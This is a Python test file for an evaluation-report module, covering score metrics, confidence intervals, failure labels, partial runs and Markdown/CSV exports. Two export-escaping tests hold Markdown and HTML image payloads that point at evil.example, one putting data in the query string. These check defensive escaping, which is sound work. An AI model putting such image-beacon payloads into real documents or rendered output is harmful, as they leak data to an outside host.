"""Evaluation reports: structure, scores, CIs and failure labels (fake arms; real arms in test_quality)."""

import json

import pytest

from core.evaluation import report as R
from core.evaluation.arms import ArmAnswer, ArmSetup
from core.evaluation.evalsets import EvalItem, EvalSet
from core.evaluation.evaluate import (
    evaluate,
    list_reports,
    load_report,
    save_report,
)
from core.knowledge.retrieval import RetrievalConfig, Retrieved
from core.runtime.text import md_escape

RETRIEVAL_MISS, GENERATION_ERROR = "retrieval miss", "generation error"  # the report's failure labels


class FakeArms:
    """Answers from a table: {arm: {question: (answer, retrieved source or None)}}."""

    adapter_meta = {"duration_s": 12.5, "trainable_params": 1000}
    engine = type("FakeEngine", (), {"describe": staticmethod(lambda: {"name": "fake"})})()
    adapter_mode = None

    def title(self, arm):
        from core.evaluation.arms import ARM_TITLES

        return ARM_TITLES.get(arm, arm)

    def __init__(self, table):
        self.table = table

    def answer_many(self, questions, labels=(), should_stop=None):
        self.calls = getattr(self, "calls", 0) + 1
        out = []
        for q in questions:
            answers = {}
            for arm, rows in self.table.items():
                text, source = rows[q]
                sources = [Retrieved(text=f"context about {q}", source=source, chunk=0, score=0.8)] if source else []
                answers[arm] = ArmAnswer(arm, [], sources, 5.0 if arm in ("rag", "hybrid") else None, text,
                                         first_token_ms=10, total_ms=100 + len(text), prompt_tokens=20, answer_tokens=5)
            out.append(answers)
        return out


QUESTIONS = [EvalItem(f"q{i}", (f"gold{i}",), source=f"doc{i}.md") for i in range(12)]


def table():
    return {
        "base": {f"q{i}": ("no idea", None) for i in range(12)},
        "rag": {f"q{i}": (f"it is gold{i}" if i < 10 else "wrong", f"doc{i}.md" if i != 11 else "other.md")
                for i in range(12)},
    }


@pytest.fixture
def report(data_dir):
    setup = ArmSetup(arms=("base", "rag"), kb="kb", retrieval=RetrievalConfig(k=3))
    return evaluate(EvalSet("unit", tuple(QUESTIONS)), setup, engine=FakeArms(table()), batch_size=5)


def test_report_has_the_cli_contract(report):
    assert report["n"] == 12 and report["complete"]
    for arm in ("base", "rag"):
        for key in ("exact_match", "f1", "contains", "rougeL", "latency_p50_ms", "latency_p95_ms", "tokens_per_s"):
            assert key in report["arms"][arm]
    low, mean, high = report["deltas"]["rag-base"]["contains"]
    assert low <= mean <= high
    q = report["questions"][0]
    assert set(q) >= {"question", "gold", "answers", "scores", "failure"}
    json.dumps(report)  # serialisable


def test_scores_and_ci_reflect_the_answers(report):
    assert report["arms"]["base"]["contains"] == 0.0
    assert report["arms"]["rag"]["contains"] == pytest.approx(10 / 12)
    assert report["arms"]["rag"]["hit_at_k"] == pytest.approx(11 / 12)
    low, mean, high = report["deltas"]["rag-base"]["contains"]
    assert mean == pytest.approx(10 / 12) and low > 0  # clearly better
    for metric, value in report["arms"]["rag"].items():
        if metric in R.PERCENT_METRICS:
            assert 0.0 <= value <= 1.0


def test_failure_labels_tell_retrieval_miss_from_generation_error(report):
    failures = [q["failure"]["rag"] for q in report["questions"]]
    assert failures[:10] == [None] * 10
    assert failures[10] == GENERATION_ERROR  # right document retrieved, wrong answer
    assert failures[11] == RETRIEVAL_MISS  # the gold document was not retrieved
    assert "base" not in report["questions"][0]["failure"]


def test_label_sets_report_accuracy_and_macro_f1(data_dir):
    items = tuple(EvalItem(t, (lab,), label=lab, kind="label") for t, lab in
                  [("refund please", "billing"), ("parcel late", "shipping"), ("charged twice", "billing"),
                   ("where is my box", "shipping")])
    labels = ("billing", "shipping")
    eval_set = EvalSet("tickets", items, "label", labels)
    engine = FakeArms({"base": {i.question: ("billing", None) for i in items},
                       "ft": {i.question: (i.label, None) for i in items}})
    engine.adapter_meta = {"duration_s": 3.0, "trainable_params": 10}
    result = evaluate(eval_set, ArmSetup(arms=("base", "ft"), adapter="a"), engine=engine)
    assert result["arms"]["ft"]["accuracy"] == 1.0
    assert result["arms"]["base"]["accuracy"] == 0.5
    assert result["arms"]["ft"]["macro_f1"] == 1.0
    assert result["arms"]["ft"]["train_seconds"] == 3.0
    assert list(result["deltas"]) == ["ft-base"]


def test_stop_between_batches_gives_a_partial_report(data_dir):
    engine = FakeArms(table())
    result = evaluate(EvalSet("unit", tuple(QUESTIONS)), ArmSetup(arms=("base", "rag"), kb="kb"),
                      engine=engine, batch_size=5, should_stop=lambda: getattr(engine, "calls", 0) >= 1)
    assert result["n"] == 5 and not result["complete"] and result["partial"] is True
    assert result["verdict"].startswith("Partial run (stopped after 5 of 12 questions)")


class MidBatchStop(FakeArms):
    """Like the real arms, asks should_stop at every 'decode step'; a stop arrives in batch 2."""

    def answer_many(self, questions, labels=(), should_stop=None):
        self.batches = getattr(self, "batches", 0) + 1
        self.stop_now = self.batches == 2
        for _ in range(3):  # decode steps
            if should_stop and should_stop():
                self.cut = True
                break
        return super().answer_many(questions, labels)


def test_a_stop_during_a_batch_is_honoured_at_once_and_the_cut_batch_is_dropped(data_dir):
    engine = MidBatchStop(table())
    result = evaluate(EvalSet("unit", tuple(QUESTIONS)), ArmSetup(arms=("base", "rag"), kb="kb"),
                      engine=engine, batch_size=5, should_stop=lambda: getattr(engine, "stop_now", False))
    assert engine.cut and engine.batches == 2  # stopped inside batch 2, no batch 3
    assert result["n"] == 5 and result["partial"]  # batch 2's cut-short answers are not scored


def test_a_stop_before_any_answer_raises_a_typed_error(data_dir):
    from core.evaluation.evaluate import EvaluationStopped

    with pytest.raises(EvaluationStopped):
        evaluate(EvalSet("unit", tuple(QUESTIONS)), ArmSetup(arms=("base",)), engine=FakeArms(table()),
                 should_stop=lambda: True)


def test_report_opens_with_a_verdict_naming_its_metric(report):
    assert list(report)[:2] == ["verdict", "verdict_metric"]
    assert report["verdict_metric"] == "contains"  # short gold answers
    assert report["verdict"].startswith("RAG answers 10 of 12 questions correctly, the base model 0 of 12 (+83 points, 95% CI")
    assert "contains the gold answer" in report["verdict"]
    assert report["partial"] is False
    markdown = R.to_markdown(report)
    assert markdown.splitlines()[2] == f"**Verdict:** {md_escape(report['verdict'])}"


def test_markdown_export_shows_hostile_names_as_text(report):
    # a CommonMark viewer rendered `**![n](https:evil.example?d=evalname)**` in the eval-set name
    # as an image; every user- or file-derived string in the export is escaped
    from markdown_it import MarkdownIt

    payload = "![n](https://evil.example/x.png?d=evalname) `tick"
    hostile = dict(report, eval_set={**report["eval_set"], "name": payload},
                   setup={**report["setup"], "kb": payload, "adapter": payload})
    tokens = MarkdownIt("commonmark").parse(R.to_markdown(hostile))
    kinds = {child.type for token in tokens for child in (token.children or [])}
    assert not kinds & {"image", "link_open", "code_inline", "html_inline"}
    html = MarkdownIt("commonmark").render(R.to_markdown(hostile))
    assert "![n](https://evil.example/x.png?d=evalname)" in html and "<img" not in html  # shown, as text


def test_estimate_uses_measured_seconds_per_answer(report, data_dir):
    from core.evaluation.estimate import estimate_seconds

    assert estimate_seconds(10, ("base", "rag"), 48) is None  # nothing measured yet
    report["meta"]["seconds"] = 48.0  # 12 questions x 2 arms -> 2 s per answer
    report["setup"]["decoding"]["max_new_tokens"] = 48
    save_report(report)
    est = estimate_seconds(10, ("base", "rag", "ft"), 48)
    assert est["per_answer_s"] == 2.0 and est["seconds"] == 60.0
    assert "10 questions × 3 arms × 2.0 s per answer" in est["basis"]
    assert estimate_seconds(10, ("base",), 96)["seconds"] == 40.0  # scaled by answer length


def test_per_question_marks_and_missing_column_explanations(report):
    rows = R.question_rows(report)
    assert rows[0]["RAG ✓"] == "✓" and rows[0]["Base ✓"] == "✗"
    no_source = dict(report, arms={a: {k: v for k, v in m.items() if k not in ("hit_at_k", "mrr")}
                                   for a, m in report["arms"].items()})
    assert any("`source`" in note for note in R.missing_explanations(no_source))
    assert not any("hit@k" in note for note in R.missing_explanations(report))


def test_reports_are_saved_listed_and_exported(report, data_dir):
    save_report(report)
    assert [r["id"] for r in list_reports()] == [report["id"]]
    assert load_report(report["id"])["n"] == 12
    markdown = R.to_markdown(report)
    assert "RAG − Base" in markdown and "better (CI above 0)" in markdown
    csv_text = R.to_csv(report)
    assert csv_text.count("\n") == 13 and "RAG failure" in csv_text.splitlines()[0]
    assert list_reports()[0]["partial"] is False
    assert R.disagreements(report) == list(range(10))


def test_unreadable_report_is_skipped_in_the_list(data_dir):
    (data_dir / "reports").mkdir()
    (data_dir / "reports" / "broken.json").write_text("{nope")
    assert list_reports() == []


def test_compare_export_shows_hostile_text_as_text():
    # Compare's Markdown export: question, file names and the answer itself are untrusted
    from markdown_it import MarkdownIt

    from core.evaluation.conversation import Conversation, Exchange

    payload = "![n](https://evil.example/x.png) `tick <img src=https://evil.example/y>"
    record = {"title": "RAG", "answer": payload, "total_ms": 1.0, "tokens": 3, "tokens_per_s": 1.0,
              "prompt_tokens": 9, "sources": [{"file": payload, "page": None, "row": None, "chunk": 0, "score": 0.5}]}
    exchange = Exchange(payload, {"rag": record}, setup={"kb": payload, "adapter": payload, "model": payload})
    conversation = Conversation(exchanges=[exchange])
    html = MarkdownIt("commonmark").render(conversation.to_markdown())
    assert "<img" not in html and "<a " not in html and "<code>" not in html
